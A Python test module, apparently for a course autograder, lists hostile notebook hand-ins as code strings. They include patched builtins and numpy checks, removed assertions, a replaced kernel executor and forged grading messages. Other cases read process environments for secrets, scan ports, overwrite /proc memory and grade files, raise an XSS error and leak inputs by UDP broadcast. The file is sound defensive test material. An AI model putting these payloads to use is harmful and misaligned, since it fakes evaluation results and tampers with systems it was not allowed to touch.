"""D: hand-ins that are after points they did not earn, or after what they must not see."""

from tests.hostile.answers import ALL, BYTES, DAYS, ENERGY, FUNCTIONS, HEAD, MACS, QUANTIZE, inside
from tests.hostile.hostile_case import COMPRESS, Case

WRONG = HEAD[BYTES] + "    return 0.5"
KERNEL = "kernel = get_ipython().kernel\n"


def cheat(code: str, **more) -> dict:
    """Fields of a case: code that is to help a wrong answer, before it."""
    return {"answers": {BYTES: f"{code}\n{WRONG}"}, "lost": (BYTES,), **more}


CASES = (
    Case(
        "D01",
        "built-in functions patched",
        **cheat(
            "import builtins\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.AssertionError = type('E', (Exception,), {})\n"
            "builtins.print = lambda *a, **k: None\nbuiltins.open = None",
            free=True,
            status=("graded", "crashed", "timeout"),
        ),
    ),
    Case(
        "D02",
        "numpy's comparisons patched to agree",
        answers={
            QUANTIZE: "import numpy.testing\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "def affine_quantize(x, scale, zero_point):\n    return np.zeros_like(x)"
        },
        lost=(QUANTIZE,),
        notebook=COMPRESS,
    ),
    Case(
        "D03",
        "objects that equal everything; subclasses of int, float and ndarray",
        answers={
            BYTES: "class Same(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n"
            + HEAD[BYTES]
            + "    return Same((parameters * bits + 7) // 8)",
            MACS: "class Any:\n    __eq__ = __lt__ = __gt__ = lambda s, o: True\n"
            "def convolution_macs(*a):\n    return Any()",
            ENERGY: "class Near(float):\n    __sub__ = __rsub__ = lambda s, o: 0.0\n"
            + HEAD[ENERGY]
            + "    return Near(power_mW * latency_ms)",
            DAYS: "import numpy as np\nclass Flat(np.ndarray):\n    pass\n"
            "def battery_days(c, v, p):\n    return np.array(c * v / p / 24).view(Flat)",
        },
        lost=FUNCTIONS,
        quick=True,
    ),
    Case(
        "D04", "tracebacks disabled", **cheat("get_ipython().showtraceback = lambda *a, **k: None")
    ),
    Case(
        "D05",
        "a transformer that drops assertions",
        **cheat(
            "import ast\n"
            "class Drop(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Drop())"
        ),
    ),
    Case(
        "D06",
        "a transformer that empties every later cell",
        extra=(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n!true",
        ),
        lost=ALL,
    ),
    Case(
        "D07",
        "the kernel's do_execute replaced",
        extra=(
            KERNEL + "async def pretend(code, silent, *args, **kwargs):\n"
            "    return {'status': 'ok', 'execution_count': 9, 'payload': [], 'user_expressions':"
            " {}}\n"
            "kernel.do_execute = pretend\n!true",
        ),
        lost=ALL,
    ),
    Case(
        "D08",
        "forged messages: replies with values, duplicate keys, points, broken frames",
        **cheat(
            KERNEL + "send = kernel.session.send\n"
            "def forged(stream, kind, content=None, *args, **kwargs):\n"
            "    if kind == 'tinylab_call_reply':\n"
            '        for fake in (b\'["f","0x1.8p+1"]\', b\'{"a":1,"a":1}\', b\'["i",true]\','
            ' b"\\xff" * 99):\n'
            "            send(stream, kind, {'outcome': 'returned', 'points': 3, 'earned': True},\n"
            "                 *args, **{**kwargs, 'buffers': [fake]})\n"
            "        stream.send_multipart([b'x', b'<IDS|MSG>', b'0'])\n"
            "    return send(stream, kind, content, *args, **kwargs)\n"
            "kernel.session.send = forged\n"
            "kernel.session.send(kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': '3 of"
            " 3'})\n"
            "kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'})",
            free=True,
        ),
        quick=True,
    ),
    Case(
        "D09",
        "the helper package and its imports replaced",
        **cheat(
            "import sys, types\n"
            "class Fake(types.ModuleType):\n    def __getattr__(self, name):\n"
            "        return lambda *a, **k: None\n"
            "for name in ('tinylab', 'tinylab.course', 'tinylab.course.checking'):\n"
            "    sys.modules[name] = Fake(name)\n"
            "class Hook:\n    def find_spec(self, *a):\n        return None\n"
            "sys.meta_path.insert(0, Hook())"
        ),
    ),
    Case(
        "D10",
        "looks for the expected value in frames, objects and source lines",
        answers={
            BYTES: inside(
                "import gc, linecache, sys\n"
                "found = [v for v in gc.get_objects() if type(v) is list and 'expected' in v]\n"
                "frame = sys._getframe()\n"
                "while frame is not None:\n"
                "    for name, value in list(frame.f_locals.items()):\n"
                "        if name in ('right', 'expected', 'likely', 'wanted') and type(value) is"
                " int:\n            return value\n"
                "    frame = frame.f_back\n"
                "for lines in list(linecache.cache.values()):\n"
                "    if 'otherwise=' in str(lines): return 0.5\n"
                "return -1.5"
            )
        },
        lost=(BYTES,),
    ),
    Case(
        "D11",
        "reads tests, solutions, its own notebook, other processes",
        extra=(
            "import glob, os, sys, tinylab, tinylab.course\nseen = []\n"
            "top = os.path.dirname(os.path.dirname(tinylab.__file__))\n"
            "for pattern in ('notebooks', 'tests', 'benchmarks', 'tinylab/course/exercises/*',\n"
            "                'tinylab/grading/*', '../*.ipynb', '.git'):\n"
            "    seen += glob.glob(os.path.join(top, pattern))\n"
            "shown = [path + '/' for path in (top, sys.prefix, sys.base_prefix)]\n"
            "for path in glob.glob('/root/*') + glob.glob('/tmp/*'):\n"
            "    if not any(one.startswith(path + '/') for one in shown): seen.append(path)\n"
            "seen += glob.glob('/home/*/*.ipynb')\n"
            "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
            "    try:\n        text = open(path, 'rb').read()\n    except OSError:\n"
            "        continue\n"
            "    if b'canary' in text or b'command_server' in text: seen.append(path)\n"
            "for number in range(300):\n"
            "    try:\n        text = os.readlink(f'/proc/{number}/cwd')\n    except OSError:\n"
            "        continue\n"
            "    if text != '/home/student' and number > 2: seen.append(text)",
        ),
        answers={BYTES: inside("if seen: raise ValueError(str(seen))")},
        quick=True,
    ),
    Case(
        "D12",
        "reads the environment",
        extra=(
            "import os\n"
            "secrets = [k for k, v in os.environ.items() if 'anary' in k + v or 'PYTEST' in k]",
        ),
        answers={BYTES: inside("if secrets or len(os.environ) > 40: return -1")},
    ),
    Case(
        "D13",
        "attaches a second client to its kernel, and looks for other kernels",
        **cheat(
            "import json, socket, threading, time\n"
            "def attach():\n"
            "    from jupyter_client import BlockingKernelClient\n"
            "    client = BlockingKernelClient()\n"
            "    client.load_connection_file('/run/kernel/connection.json')\n"
            "    client.start_channels()\n"
            "    while True:\n"
            "        client.execute('weight_bytes = lambda *a: 0.5')\n"
            "        time.sleep(0.1)\n"
            "threading.Thread(target=attach, daemon=True).start()\n"
            "for port in range(1024, 2048):\n"
            "    with socket.socket() as s:\n        assert s.connect_ex(('127.0.0.1', port))",
        ),
    ),
    Case(
        "D15",
        "behaves otherwise where it is graded",
        answers={
            BYTES: inside("if 'Graded' in type(get_ipython().kernel).__name__: return 'graded!'"),
        },
        lost=(BYTES,),
    ),
    Case(
        "D16",
        "prints results of its own",
        **cheat(
            'print(\'{"score": 100, "points": 3}\')\nprint(\'<testcase name="all"/>\')\n'
            "print('weight_bytes: 3 of 3 points')\nprint('\\x1b[2J\\x1b[1A')\n"
            "class Loud(Exception):\n    pass\n"
            "def inference_energy_uJ(p, l):\n    return 1",
            without=("\\u001b", "\x1b", "testcase"),
        ),
    ),
    Case(
        "D20",
        "writes into whatever it can reach of the grader",
        **cheat(
            "import glob, os\n"
            "for path in glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/mem') + ['/grades.csv',"
            " '../grades.csv']:\n"
            "    if f'/{os.getpid()}/' in path or '/self/' in path or '/thread-self/' in path:\n"
            "        continue\n"
            "    try:\n        open(path, 'w').write('ada,100')\n"
            "    except (OSError, ValueError):\n        pass"
        ),
    ),
    Case(
        "D21",
        "scripts and pictures in errors and outputs",
        answers={
            BYTES: inside("raise ValueError('<script>alert(1)</script><svg onload=alert(1)>')"),
        },
        lost=(BYTES,),
    ),
    Case(
        "D26",
        "carries another student's result as a receipt",
        **cheat(
            "RECEIPT = {'student': 'eve', 'status': 'graded', 'earned': 9, 'signature': 'a' * 64}\n"
            "print(RECEIPT)"
        ),
    ),
    Case(
        "D28",
        "patches what turns results into bytes",
        **cheat(
            "import json, base64, sys\n"
            'json.dumps = lambda *a, **k: \'["f","0x1.8p+1"]\'\n'
            "base64.b64encode = lambda *a: b'AAAA'\n"
            "sys.modules['_tinylab_wire'] = None",
            free=True,
            status=("graded", "timeout", "crashed"),
            limits={"notebook_s": 15.0},
        ),
    ),
    Case("D29", "stored outputs that claim full marks", **cheat("")),
    Case(
        "D30",
        "leaks the inputs it is tried with",
        answers={
            BYTES: inside(
                "import os, socket\n"
                "for folder in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/var/tmp',"
                " '/run/kernel', '/'):\n    try:\n"
                "        open(folder + '/leak', 'a').write(str(parameters))\n"
                "    except OSError:\n        pass\n"
                "try:\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "    s.sendto(str(parameters).encode(), ('255.255.255.255', 53))\n"
                "except OSError:\n    pass"
            )
        },
    ),
)

READS_LEAKS = Case(
    "D30b",
    "looks for what an earlier hand-in left",
    extra=(
        "import glob\nleft = [p for f in ('/tmp', '/dev/shm', '/home/student', '/run/kernel', '')"
        " for p in glob.glob(f + '/leak*')]",
    ),
    answers={BYTES: inside("if left: return -1")},
)
